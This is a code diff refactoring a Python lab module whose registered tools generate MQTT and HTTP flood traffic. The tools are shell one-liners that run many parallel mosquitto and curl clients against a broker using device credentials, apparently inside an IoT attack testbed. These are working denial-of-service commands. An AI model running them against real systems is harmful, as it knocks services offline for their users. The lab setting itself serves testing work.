@@ -6,6 +6,14 @@ import sys
 
 from wirespeak.lab.attacks.tool import MOST_PACKETS, MOST_PACKETS_PER_S, Strike, own, tool
 
+_UNTIL = "while [ $(date +%s) -lt $end ]"
+
+
+def _side_by_side(s: Strike, parallel: int, work: str) -> list[str]:
+    """`work` in so many shells at once: each has its number in $1, and when to end in $end."""
+    end = f"end=$(($(date +%s)+{int(s.seconds)}))"
+    return ["sh", "-c", f"{end}; for w in $(seq {int(parallel)}); do (set -- $w; {work}) & done; wait"]
+
 
 @tool("flood.http")
 def own_http(
@@ -179,11 +187,7 @@ def own_mqtt_subscribe(s: Strike, *, rate: float = 60.0, port: int = 1883) -> li
 def mosquitto_pub_storm(s: Strike, *, parallel: int = 8, lines: int = 20) -> list[str]:
     """Many mosquitto_pub processes, each sending lines and leaving."""
     base = f"seq {int(lines)} | mosquitto_pub -h {s.address} -t storm/$1 -l -u bulb -P {s.world.passwords['device']}"
-    return [
-        "sh",
-        "-c",
-        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {base}; done) & done; wait",
-    ]
+    return _side_by_side(s, parallel, f"{_UNTIL}; do {base}; done")
 
 
 @tool("flood.mqtt", package="mosquitto-clients")
@@ -191,22 +195,14 @@ def mosquitto_sub_storm(s: Strike, *, parallel: int = 6, topics: int = 2) -> lis
     """Many mosquitto_sub processes that subscribe to a few topics and leave when one second is over."""
     named = " ".join(f"-t storm/{number}" for number in range(topics))
     one = f"mosquitto_sub -h {s.address} {named} -u bulb -P {s.world.passwords['device']} -C 1 -W 1 >/dev/null 2>&1"
-    return [
-        "sh",
-        "-c",
-        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (while [ $(date +%s) -lt $end ]; do {one} & sleep 0.12; done) & done; wait",
-    ]
+    return _side_by_side(s, parallel, f"{_UNTIL}; do {one} & sleep 0.12; done")
 
 
 @tool("flood.mqtt", package="mosquitto-clients")
 def mosquitto_pub_repeat(s: Strike, *, parallel: int = 5, times: int = 60, qos: int = 1) -> list[str]:
     """mosquitto_pub processes that each repeat one message `times` times, without a pause, and come again."""
     one = f"mosquitto_pub -h {s.address} -t storm/$1 -m on -q {qos} --repeat {times} --repeat-delay 0.01 -u bulb -P {s.world.passwords['device']}"
-    return [
-        "sh",
-        "-c",
-        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {one}; done) & done; wait",
-    ]
+    return _side_by_side(s, parallel, f"{_UNTIL}; do {one}; done")
 
 
 @tool("flood.slow")
@@ -296,13 +292,9 @@ def mosquitto_pub_stream(
 ) -> list[str]:
     """mosquitto_pub processes that stay: every `pause` seconds `lines` messages on one connection each."""
     pause = max(pause, parallel * lines / MOST_PACKETS_PER_S)
-    fed = f"while [ $(date +%s) -lt $end ]; do seq {lines}; sleep {pause:g}; done"
+    fed = f"{_UNTIL}; do seq {lines}; sleep {pause:g}; done"
     one = f"mosquitto_pub -h {s.address} -t storm/$1 -l -q {qos} -u bulb -P {s.world.passwords['device']}"
-    return [
-        "sh",
-        "-c",
-        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; {fed} | {one}) & done; wait",
-    ]
+    return _side_by_side(s, parallel, f"{fed} | {one}")
 
 
 @tool("flood.slow", package="nmap")
@@ -349,22 +341,14 @@ def curl_mqtt(s: Strike, *, parallel: int = 4, pause: float = 0.05, size: int = 
     """curl's MQTT: a connection for each message, `parallel` at once."""
     message = "x" * min(size, 1000)
     one = f"curl -s -u bulb:{s.world.passwords['device']} -d {message} mqtt://{s.address}/storm/$1 >/dev/null 2>&1"
-    return [
-        "sh",
-        "-c",
-        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {one}; sleep {max(pause, 0.01):g}; done) & done; wait",
-    ]
+    return _side_by_side(s, parallel, f"{_UNTIL}; do {one}; sleep {max(pause, 0.01):g}; done")
 
 
 @tool("flood.mqtt", package="mosquitto-clients")
 def mosquitto_rr(s: Strike, *, parallel: int = 5, pause: float = 0.1) -> list[str]:
     """mosquitto_rr processes: each subscribes, asks under MQTT 5, waits a second for an answer, and leaves."""
     one = f"mosquitto_rr -h {s.address} -t storm/$1 -e storm/answer/$1 -m on -W 1 -u bulb -P {s.world.passwords['device']} >/dev/null 2>&1"
-    return [
-        "sh",
-        "-c",
-        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {one} & sleep {max(pause, 0.05):g}; done) & done; wait",
-    ]
+    return _side_by_side(s, parallel, f"{_UNTIL}; do {one} & sleep {max(pause, 0.05):g}; done")
 
 
 def _drip(s: Strike, first: str, one: str, end: str, *, connections: int, interval: float) -> list[str]:
